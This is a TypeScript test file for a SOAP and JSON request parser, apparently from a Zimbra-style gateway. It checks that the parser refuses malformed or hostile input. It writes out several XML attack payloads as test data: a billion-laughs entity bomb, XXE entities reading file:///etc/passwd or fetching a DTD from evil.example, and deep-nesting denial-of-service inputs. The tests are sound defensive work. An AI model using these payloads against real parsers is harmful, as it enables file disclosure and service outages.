import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SOAP11_NS, SOAP12_NS, SoapFault, parseSoapRequest, sniffResponseProtocol } from '@gw/soap';

/** Asserts the call throws a SoapFault with this code (and, optionally, a message matching re). */
function assertFault(fn: () => unknown, code: string, re?: RegExp): SoapFault {
  let caught: unknown;
  try {
    fn();
  } catch (err) {
    caught = err;
  }
  assert.ok(caught instanceof SoapFault, `expected a SoapFault, got ${String(caught)}`);
  assert.equal(caught.code, code, caught.message);
  if (re) assert.match(caught.message, re);
  return caught;
}

const env = (body: string, ns = SOAP12_NS) => `<soap:Envelope xmlns:soap="${ns}"><soap:Body>${body}</soap:Body></soap:Envelope>`;

test('billion laughs: DOCTYPE with nested entities is refused before any expansion', () => {
  const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
${env('<AuthRequest xmlns="urn:zimbraAccount"><password>&lol9;</password></AuthRequest>')}`;
  const started = Date.now();
  assertFault(() => parseSoapRequest(lol), 'service.PARSE_ERROR', /DOCTYPE is disallowed/);
  assert.ok(Date.now() - started < 1000);
});

test('external entities (XXE), parameter entities and a bare DOCTYPE are refused', () => {
  const xxe = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${env('<R xmlns="urn:x">&xxe;</R>')}`;
  assertFault(() => parseSoapRequest(xxe), 'service.PARSE_ERROR', /DOCTYPE/);
  const param = `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${env('<R xmlns="urn:x"/>')}`;
  assertFault(() => parseSoapRequest(param), 'service.PARSE_ERROR', /DOCTYPE/);
  const external = `<!DOCTYPE soap:Envelope SYSTEM "http://evil.example/x.dtd">${env('<R xmlns="urn:x"/>')}`;
  assertFault(() => parseSoapRequest(external), 'service.PARSE_ERROR', /DOCTYPE/);
  // A declaration is refused wherever it hides outside comments/CDATA.
  assertFault(() => parseSoapRequest(env('<R xmlns="urn:x"><!ENTITY x "y"></R>')), 'service.PARSE_ERROR', /DOCTYPE/);
});

test('"<!DOCTYPE" inside a comment or CDATA is just text', () => {
  const ok = env('<R xmlns="urn:x"><!-- <!DOCTYPE x> --><![CDATA[<!DOCTYPE y>]]></R>');
  assert.equal(parseSoapRequest(ok).body.text, '<!DOCTYPE y>');
});

test('undefined entities and stray ampersands are well-formedness errors, not left as text', () => {
  assertFault(() => parseSoapRequest(env('<R xmlns="urn:x">&xxe;</R>')), 'service.PARSE_ERROR');
  assertFault(() => parseSoapRequest(env('<R xmlns="urn:x" a="&nbsp;"/>')), 'service.PARSE_ERROR');
  assertFault(() => parseSoapRequest(env('<R xmlns="urn:x" a="fish & chips"/>')), 'service.PARSE_ERROR');
  assertFault(() => parseSoapRequest(env('<R xmlns="urn:x">&#0;</R>')), 'service.PARSE_ERROR', /illegal XML character/);
  assertFault(() => parseSoapRequest(env('<R xmlns="urn:x">&#x110000;</R>')), 'service.PARSE_ERROR');
});

test('deep XML nesting: over the limit is refused, up to the limit is fine', () => {
  const nest = (n: number) => env('<R xmlns="urn:x">' + '<a>'.repeat(n) + '</a>'.repeat(n) + '</R>');
  // Envelope(1) Body(2) R(3): 97 more levels reach exactly 100.
  assert.doesNotThrow(() => parseSoapRequest(nest(97)));
  assertFault(() => parseSoapRequest(nest(98)), 'service.PARSE_ERROR', /nesting exceeds 100/);
  assertFault(() => parseSoapRequest(nest(10), { maxDepth: 8 }), 'service.PARSE_ERROR', /nesting exceeds 8/);
  const started = Date.now();
  assertFault(() => parseSoapRequest(nest(200_000)), 'service.PARSE_ERROR', /nesting/);
  assert.ok(Date.now() - started < 5000, 'a huge nesting attack is refused quickly');
});

test('deep JSON nesting: objects and arrays, refused before JSON.parse builds them', () => {
  const nestObj = (n: number) => '{"Body":{"R":' + '{"a":'.repeat(n) + '{}' + '}'.repeat(n) + '}}';
  assert.doesNotThrow(() => parseSoapRequest(nestObj(96)));
  assertFault(() => parseSoapRequest(nestObj(98)), 'service.PARSE_ERROR', /nesting exceeds 100/);
  const started = Date.now();
  assertFault(() => parseSoapRequest('{"Body":{"R":{"a":' + '['.repeat(1_000_000) + ']'.repeat(1_000_000) + '}}}'), 'service.PARSE_ERROR', /nesting/);
  assertFault(() => parseSoapRequest('{"Body":' + '{"a":'.repeat(500_000)), 'service.PARSE_ERROR');
  assert.ok(Date.now() - started < 5000);
  // brackets inside strings do not count
  assert.doesNotThrow(() => parseSoapRequest(`{"Body":{"R":{"q":"${'['.repeat(1000)}\\"${'{'.repeat(1000)}"}}}`));
});

test('malformed XML is service.PARSE_ERROR', () => {
  const bad = [
    env('<R xmlns="urn:x"><a></R>'), // mismatched
    env('<R xmlns="urn:x">'), // unclosed
    env('<R xmlns="urn:x" a="1" a="2"/>'), // duplicate attribute
    env('<R xmlns="urn:x" a=1/>'), // unquoted
    env('<R xmlns="urn:x" a/>'), // no value
    env('<R xmlns="urn:x" a="<"/>'), // '<' in attribute value
    env('<R xmlns="urn:x">]]></R>'),
    env('<R xmlns="urn:x"><!-- a -- b --></R>'),
    env('<R xmlns="urn:x"><!-- open </R>'),
    env('<p:R/>'), // unbound prefix
    env('<a:b:c xmlns:a="u"/>'),
    `${env('<R xmlns="urn:x"/>')}<second/>`, // two roots
    `${env('<R xmlns="urn:x"/>')} trailing`,
    'hello world',
    '<',
    '<soap:Envelope',
    '\u0000<a/>',
    env('<R xmlns="urn:x">bell\u0007</R>'), // illegal character in the request
    env('<R xmlns="urn:x">\uD800</R>'), // lone surrogate
  ];
  for (const b of bad) assertFault(() => parseSoapRequest(b), 'service.PARSE_ERROR');
});

test('structural problems are service.INVALID_REQUEST', () => {
  assertFault(() => parseSoapRequest(`<soap:Envelope xmlns:soap="${SOAP12_NS}"><soap:Header/></soap:Envelope>`), 'service.INVALID_REQUEST', /No SOAP body/);
  assertFault(() => parseSoapRequest(`<soap:Envelope xmlns:soap="${SOAP12_NS}"><soap:Body/></soap:Envelope>`), 'service.INVALID_REQUEST', /No SOAP body/);
  assertFault(() => parseSoapRequest(`<soap:Envelope xmlns:soap="${SOAP11_NS}"><soap:Body>  text only </soap:Body></soap:Envelope>`), 'service.INVALID_REQUEST');
  // Body in the wrong namespace is not the SOAP Body
  assertFault(() => parseSoapRequest(`<soap:Envelope xmlns:soap="${SOAP12_NS}"><Body><R/></Body></soap:Envelope>`), 'service.INVALID_REQUEST');
  // no Envelope, or an Envelope of an unknown SOAP version
  assertFault(() => parseSoapRequest('<AuthRequest xmlns="urn:zimbraAccount"/>'), 'service.INVALID_REQUEST', /SOAP version/);
  assertFault(() => parseSoapRequest('<soap:Envelope xmlns:soap="urn:not-soap"><soap:Body><R/></soap:Body></soap:Envelope>'), 'service.INVALID_REQUEST', /SOAP version/);
  assertFault(() => parseSoapRequest('<Envelope><Body><R/></Body></Envelope>'), 'service.INVALID_REQUEST', /SOAP version/);
  // JSON
  assertFault(() => parseSoapRequest('{}'), 'service.INVALID_REQUEST', /No SOAP body/);
  assertFault(() => parseSoapRequest('{"Header":{}}'), 'service.INVALID_REQUEST', /No SOAP body/);
  assertFault(() => parseSoapRequest('{"Body":{}}'), 'service.INVALID_REQUEST', /No SOAP body/);
  assertFault(() => parseSoapRequest('{"Body":"x"}'), 'service.INVALID_REQUEST', /No SOAP body/);
  assertFault(() => parseSoapRequest('{"Body":[]}'), 'service.INVALID_REQUEST', /No SOAP body/);
  assertFault(() => parseSoapRequest('{"Body":{"R":{"a":[[1]]}}}'), 'service.INVALID_REQUEST', /nested arrays/);
  assertFault(() => parseSoapRequest('{"Body":{"R":{"_jsns":5}}}'), 'service.INVALID_REQUEST');
});

test('bad JSON is service.PARSE_ERROR: truncated, trailing garbage, non-object', () => {
  const full = '{"Header":{"context":{"_jsns":"urn:zimbra","authToken":"t"}},"Body":{"NoOpRequest":{"_jsns":"urn:zimbraMail"}}}';
  for (let i = 1; i < full.length; i++) assertFault(() => parseSoapRequest(full.slice(0, i)), 'service.PARSE_ERROR');
  assertFault(() => parseSoapRequest(full + 'x'), 'service.PARSE_ERROR');
  assertFault(() => parseSoapRequest("{'Body':{}}"), 'service.PARSE_ERROR');
  // Not starting with '{' means XML (soap.txt), and these are not XML either.
  for (const notObject of ['[]', '[{"Body":{}}]', 'null', '"x"', '42', 'true']) {
    assertFault(() => parseSoapRequest(notObject), 'service.PARSE_ERROR');
  }
});

test('empty, whitespace-only and undecodable payloads', () => {
  assertFault(() => parseSoapRequest(''), 'service.PARSE_ERROR', /empty request payload/);
  assertFault(() => parseSoapRequest(Buffer.alloc(0)), 'service.PARSE_ERROR', /empty request payload/);
  assertFault(() => parseSoapRequest(' \n\t '), 'service.PARSE_ERROR', /empty request payload/);
  assertFault(() => parseSoapRequest(Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d])), 'service.PARSE_ERROR', /utf-8/);
  assertFault(() => parseSoapRequest(Buffer.from('<?xml version="1.0" encoding="x-no-such"?><a/>')), 'service.PARSE_ERROR', /encoding/);
});

test('fuzz: truncations and byte flips of valid requests only ever throw SoapFault', () => {
  const samples = [
    `<?xml version="1.0"?><soap:Envelope xmlns:soap="${SOAP12_NS}"><soap:Header><context xmlns="urn:zimbra"><authToken>t</authToken><session id="1"/><format type="js"/></context></soap:Header><soap:Body><AuthRequest xmlns="urn:zimbraAccount" requestId="1"><account by="name">a&amp;b</account><password><![CDATA[x]]></password><!-- c --></AuthRequest></soap:Body></soap:Envelope>`,
    '{"Header":{"context":{"_jsns":"urn:zimbra","authToken":[{"_content":"t"}],"session":{"id":"1"}}},"Body":{"BatchRequest":{"_jsns":"urn:zimbra","GetInfoRequest":[{"_jsns":"urn:zimbraAccount","requestId":"0"}],"_attrs":{"k":["v",1]}}}}',
  ];
  let seed = 12345;
  const rand = (n: number) => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed % n;
  };
  const alphabet = '<>&;"\'{}[]:,/!?-=#x0 \u0000\u00ff\\';
  let parsed = 0;
  for (const sample of samples) {
    const inputs: string[] = [];
    for (let i = 0; i <= sample.length; i++) inputs.push(sample.slice(0, i));
    for (let k = 0; k < 3000; k++) {
      const chars = sample.split('');
      for (let m = 0; m < 1 + rand(3); m++) chars[rand(chars.length)] = alphabet[rand(alphabet.length)];
      inputs.push(chars.join(''));
    }
    for (const input of inputs) {
      try {
        parseSoapRequest(input);
        parsed++;
      } catch (err) {
        assert.ok(err instanceof SoapFault, `non-fault ${String(err)} for ${JSON.stringify(input)}`);
        assert.ok(err.code === 'service.PARSE_ERROR' || err.code === 'service.INVALID_REQUEST', err.code);
      }
    }
  }
  assert.ok(parsed > 0, 'some mutations are still valid requests');
});

test('sniffResponseProtocol picks the dialect for a fault about an unparseable request', () => {
  assert.equal(sniffResponseProtocol('{"Body":'), 'json');
  assert.equal(sniffResponseProtocol(Buffer.from(`<soap:Envelope xmlns:soap="${SOAP11_NS}"><soap:Body><a></b>`)), 'soap11');
  assert.equal(sniffResponseProtocol(`<soap:Envelope xmlns:soap="${SOAP12_NS}"><soap:Body><a></b>`), 'soap12');
  assert.equal(sniffResponseProtocol(`<e:Envelope xmlns:e="${SOAP11_NS}"><e:Header><context xmlns="urn:zimbra"><format type="js"/></context></e:Header><e:Body><a></b>`), 'json');
  assert.equal(sniffResponseProtocol('garbage'), 'soap12');
});
